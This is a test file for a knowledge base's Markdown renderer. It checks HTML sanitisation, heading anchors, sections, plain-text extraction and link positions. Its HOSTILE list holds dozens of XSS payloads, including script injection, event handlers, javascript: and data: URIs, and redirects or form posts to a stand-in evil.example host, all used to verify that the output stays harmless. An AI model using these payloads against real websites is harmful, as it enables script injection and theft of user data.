"""Markdown: safe HTML whatever is written, anchors, sections, plain text, steps and the places of links."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.content.markdown.links import link_shape, links, raw_html
from kb.content.markdown.render import internal_target, plain_text, render, sections, slugify, steps, unique_anchors


def _link(article_id: str, anchor: str) -> str:
    return f"/article?id={article_id}" + (f"#{anchor}" if anchor else "") if article_id else f"#{anchor}"


class _Page(HTMLParser):
    """Collects what a browser would obey."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


_TAGS = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em", "s", "code", "pre", "blockquote", "a",
    "table", "thead", "tbody", "tr", "th", "td", "hr", "br", "div", "img",
}  # fmt: skip
_ATTRIBUTES = {"href", "src", "alt", "title", "id", "class", "role", "start", "style", "rel"}
_CLASSES = {"admonition", "admonition-title", "note", "tip", "warning"}
_STYLES = {None, "text-align:left", "text-align:center", "text-align:right"}


def _assert_safe(html: str) -> None:
    for tag, attributes in _Page(html).tags:
        assert tag in _TAGS
        assert set(attributes) <= _ATTRIBUTES
        assert set((attributes.get("class") or "").split()) <= _CLASSES
        assert attributes.get("style") in _STYLES
        assert attributes.get("role") in {None, "note"}
        for name in ("href", "src"):
            address = "".join((attributes.get(name) or "").split()).lower()
            scheme = address.split(":", 1)[0] if ":" in address.split("/", 1)[0] else ""
            assert scheme in {"", "http", "https", "mailto", "tel"}


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav\tascript:alert(1)">x</a>',
    "<form action='https://evil.example'><input name=card></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div onclick=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "title\\" onmouseover=alert(1) \\"")',
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "## <img src=x onerror=alert(1)>",
    "## Heading {onclick=alert(1)}",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "> [!NOTE onclick=alert(1)]\n> x",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "```<script>\nalert(1)\n```",
    '```" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "1. <script>\n2. alert(1)</script>",
    "[x](http://[)",
    "[x](//evil.example)",
    "\u202e<script>alert(1)</script>",
    "\u0000<scr\u0000ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[" * 500 + "x" + "](y)" * 500,
    "> " * 300 + "x",
    "<" * 2000,
]


@pytest.mark.parametrize("markdown", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_markdown_renders_harmless(markdown: str) -> None:
    """Nothing a browser would run, load from elsewhere or obey as style comes out."""
    _assert_safe(render(markdown, _link))


def test_guard_of_hostile_tests_notices_harm() -> None:
    """The guard for the hostile inputs fails on hostile output."""
    for harm in ("<script>1</script>", "<p onclick=1>", "<a href=' java\nscript:1'>", "<p class=evil>", "<p style=x>"):
        with pytest.raises(AssertionError):
            _assert_safe(harm)


@given(
    st.text(alphabet=st.sampled_from("ab<>/\"'=()[]!*_`#-|:>&;\n\t 1.\\") | st.characters(exclude_categories=["Cs"]))
)
@settings(max_examples=300, deadline=None)
def test_render_never_raises_and_is_safe(markdown: str) -> None:
    """Any text at all renders, and safely; the other readers of Markdown do not raise either."""
    _assert_safe(render(markdown, _link))
    body_lines = markdown.split("\n")
    for link in links(markdown):
        assert 1 <= link.line <= len(body_lines)
    for _, line, column in raw_html(markdown):
        assert 1 <= line <= len(body_lines)
        assert column >= 1
    assert link_shape(markdown) == link_shape(markdown)
    anchors = [section.anchor for section in sections(markdown) if section.level > 1 or section.heading]
    assert len(anchors) == len(set(anchors))
    plain_text(markdown)
    steps(markdown)


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("Plain *and* **bold**.", "<p>Plain <em>and</em> <strong>bold</strong>.</p>\n"),
        ("## What to do", '<h2 id="what-to-do">What to do</h2>\n'),
        ("## A\n\n## A", '<h2 id="a">A</h2>\n<h2 id="a-2">A</h2>\n'),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>\n'),
        (
            "[fee](late-fee#how)",
            '<p><a href="/article?id=late-fee#how" rel="noopener noreferrer">fee</a></p>\n',
        ),
        ("[here](#how)", '<p><a href="#how" rel="noopener noreferrer">here</a></p>\n'),
        ("[x](http://[)", '<p><a rel="noopener noreferrer">x</a></p>\n'),
        ("<b>raw</b>", "<p>&lt;b&gt;raw&lt;/b&gt;</p>\n"),
        (
            "> [!TIP]\n> Keep it.",
            '<div class="admonition tip" role="note">\n<p class="admonition-title">Tip</p>\n<p>Keep it.</p>\n</div>\n',
        ),
        ("> Just a quote.", "<blockquote>\n<p>Just a quote.</p>\n</blockquote>\n"),
        ("> [!NOTICE]\n> No such kind.", "<blockquote>\n<p>[!NOTICE]\nNo such kind.</p>\n</blockquote>\n"),
    ],
)
def test_render_gives_html(markdown: str, html: str) -> None:
    """Each construct an editor may use comes out as the page expects it."""
    assert render(markdown, _link) == html


def test_table_keeps_alignment() -> None:
    """The alignment of a table's columns is the one style that stays."""
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |", _link)
    assert [a.get("style") for tag, a in _Page(html).tags if tag == "td"] == ["text-align:left", "text-align:right"]


def test_nested_quote_in_admonition_stays_a_quote() -> None:
    """Only the outer quote of an admonition becomes a division."""
    html = render("> [!WARNING]\n> Careful.\n>\n> > quoted", _link)
    assert [tag for tag, _ in _Page(html).tags] == ["div", "p", "p", "blockquote", "p"]


@pytest.mark.parametrize(
    ("text", "anchor"),
    [
        ("What to do", "what-to-do"),
        ("Don't pay twice!", "dont-pay-twice"),
        ("  $5 — or 5 % ", "5-or-5"),
        ("Año nuevo", "ano-nuevo"),
        ("Don’t pay: 5 % / month", "dont-pay-5-month"),
        ("請", ""),
    ],
)
def test_slugify(text: str, anchor: str) -> None:
    """Anchors are ASCII words joined by hyphens."""
    assert slugify(text) == anchor


def test_unique_anchors_count_up_past_ones_that_are_taken() -> None:
    """A repeated heading gets the next free number; one without letters is called section."""
    assert unique_anchors(["A", "A-2", "A", "請", "!"]) == ["a", "a-2", "a-3", "section", "section-2"]


def test_sections_know_heading_anchor_level_and_line() -> None:
    """A body is split at its headings; the text before the first has no heading."""
    found = sections("Lead.\n\n## One\n\nText [x].\n\n### Two `code`\n\n[x]: late-fee\n", first_line=10)
    assert [(s.heading, s.anchor, s.level, s.line) for s in found] == [
        ("", "", 1, 10),
        ("One", "one", 2, 12),
        ("Two code", "two-code", 3, 16),
    ]
    assert found[0].markdown == "[X]: <late-fee>\n\nLead."
    assert found[1].markdown == "[X]: <late-fee>\n\nText [x]."


def test_sections_without_lead_or_text() -> None:
    """An empty body has no sections; one that begins with a heading has no lead."""
    assert sections("  \n\n") == ()
    assert [s.heading for s in sections("## One\n")] == ["One"]
    assert [s.heading for s in sections("> ## Quoted\n")] == [""]


def test_plain_text_of_every_construct() -> None:
    """Paragraphs, lists, steps, tables, images, code and breaks become lines of plain text."""
    markdown = (
        "A *b*\nc  \nd ![e](f.png)\n\n- one\n- two\n\n  more\n\n3. three\n4. four\n\n| h | i |\n|---|---|\n| j |  |\n\n"
        "```\ncode\n```\n\n> [!NOTE]\n> Mind `this`.\n\n- ![](x.png)\n"
    )
    assert plain_text(markdown).split("\n") == [
        "A b c d e", "- one", "- two", "more", "3. three", "4. four", "h: i", "j", "code", "Note", "Mind this.",
    ]  # fmt: skip


def test_steps_are_the_first_ordered_list() -> None:
    """Steps are the items of the first numbered list, nested lists and paragraphs told within them."""
    markdown = "- a\n  1. not this\n\n1. One.\n\n   More.\n   - sub\n2. Two.\n\nText.\n\n1. Other list.\n"
    assert steps(markdown) == ("One. More. sub", "Two.")
    assert steps("No list.") == ()


@pytest.mark.parametrize(
    ("href", "target"),
    [
        ("late-fee", ("late-fee", "")),
        ("late-fee.md#how", ("late-fee", "how")),
        ("../fees/late-fee.md", ("late-fee", "")),
        ("/article?id=late-fee#how", ("late-fee", "how")),
        ("/a/late-fee", ("late-fee", "")),
        ("#how", ("", "how")),
        ("https://example.org/late-fee", None),
        ("//example.org/late-fee", None),
        ("mailto:a@example.org", None),
        ("/browse", None),
        ("http://[", None),
    ],
)
def test_internal_target(href: str, target: tuple[str, str] | None) -> None:
    """Every way to write a link to an article names the same one; others are none."""
    assert internal_target(href) == target


def test_links_have_their_places() -> None:
    """Each link and image is found at its position, and so is the second of two identical ones."""
    body = "A [one](gone) and [two](gone).\n\n- ![alt](a%20b.png)\n- [ref]\n- `[no](code)` [](empty)\n\n[ref]: far\n"
    assert [(link.href, link.line, link.column, link.is_image, link.alt) for link in links(body)] == [
        ("gone", 1, 9, False, ""),
        ("gone", 1, 25, False, ""),
        ("a%20b.png", 3, 10, True, "alt"),
        ("far", 7, 8, False, ""),
        ("empty", 5, 19, False, ""),
    ]


def test_link_without_address_has_the_place_of_its_block() -> None:
    """A link whose address is written nowhere is placed at its block."""
    assert [(link.href, link.line, link.column) for link in links("Text.\n\nSee [x]().\n")] == [("", 3, 1)]


def test_raw_html_is_found() -> None:
    """Inline pieces and whole blocks of HTML are found with their places; code and autolinks are not."""
    body = "a <b>x</b> <b>\n\n<div>\ny\n</div>\n\n`<i>` <https://example.org>\n"
    assert list(raw_html(body)) == [("<b>", 1, 3), ("</b>", 1, 7), ("<b>", 1, 12), ("<div>\ny\n</div>", 3, 1)]


def test_link_shape_ignores_only_targets() -> None:
    """Two bodies that differ in a link's target have the same text; any other difference shows."""
    one, two = link_shape("See [a](b) `c`."), link_shape("See [a](d) `c`.")
    assert one.text == two.text
    assert (one.targets, two.targets) == (("b",), ("d",))
    assert link_shape("See [a](b) `d`.").text != one.text
    assert link_shape("```\nx\n```").text != link_shape("```\ny\n```").text


def test_a_picture_that_is_known_is_shown_with_its_size() -> None:
    """Others are replaced by their words; nothing else of the source comes through."""
    names = {"a.png": "0123456789abcdef-10x20.png", "b.png": "no-size.png"}
    html = render('![One **two** <x>](a.png "t") ![three](b.png) ![four](https://example.com/c.png)', _no_link, names)
    shown = (
        '<img src="/pictures/0123456789abcdef-10x20.png" alt="One two &lt;x&gt;" width="10" height="20" loading="lazy">'
    )
    assert html == f"<p>{shown} three four</p>\n"


def _no_link(article_id: str, anchor: str) -> str:
    return f"{article_id}#{anchor}"


def test_plain_text_leaves_out_a_picture_that_stands_by_itself() -> None:
    """Its words would be read as an answer; inside a sentence, or where there is nothing else, they stay."""
    assert plain_text("Look here.\n\n![A bill](a.svg)\n\nPay it.") == "Look here.\nPay it."
    assert plain_text("Press ![Pay](a.png) now.") == "Press Pay now."
    assert plain_text("![A bill](a.svg)\n![A box](b.svg)") == "A bill A box"


def test_many_of_one_thing_take_no_square_of_time() -> None:
    """A long text of headings, links, notes or tags of one name is read in one pass, not in minutes."""
    assert unique_anchors(["a"] * 40_000)[-1] == "a-40000"
    found = links("[a](b) " * 4000)
    assert [(found[n].line, found[n].column) for n in (0, 1, -1)] == [(1, 5), (1, 12), (1, 3999 * 7 + 5)]
    assert [column for _, _, column in raw_html("a " + "<b>" * 4000)][-1] == 3999 * 3 + 3
    assert render("> [!NOTE]\n> a\n\n" * 3000, _link).count('<div class="admonition note" role="note">') == 3000


def test_anchors_of_a_whole_body_are_given_out_in_order() -> None:
    """Of two headings with the same words the first gets the first anchor; a third has one of its own."""
    html = render("## A\n## B\n## A\n## A\n", _link, anchors=(("A", "one"), ("A", "two")))
    assert [a["id"] for _, a in _Page(html).tags] == ["one", "b", "two", "a-3"]
